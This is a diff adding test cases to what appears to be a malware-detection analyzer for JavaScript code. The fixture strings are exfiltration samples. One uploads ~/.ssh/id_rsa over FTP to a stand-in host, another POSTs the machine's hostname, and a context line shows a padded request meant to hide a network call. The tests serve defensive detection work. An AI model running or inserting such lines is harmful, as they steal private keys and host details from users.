@@ -73,6 +73,22 @@ describe("analyzeSource knows", () => {
     expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("wallet");
   });
 
+  test("a key that is put on a server for files", () => {
+    const { effects } = read(
+      "const c=new (require('basic-ftp').Client)();(async()=>{await c.access({host:'a.invalid'});await c.uploadFrom(require('os').homedir()+'/.ssh/id_rsa','in')})()",
+    );
+
+    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("credential-file");
+  });
+
+  test("a request of pages, made by a package", () => {
+    const { effects } = read(
+      "const {XMLHttpRequest}=require('xmlhttprequest');const x=new XMLHttpRequest();x.open('POST','https://a.invalid');x.send(require('os').hostname())",
+    );
+
+    expect(effects.find(({ kind }) => kind === "network")?.sources).toContain("host-facts");
+  });
+
   test("a long list of numbers that are moved letters", () => {
     const code = `require("https").get("https://a.invalid/");//${"x".repeat(30_000)}`;
     const moved = Array.from(code)
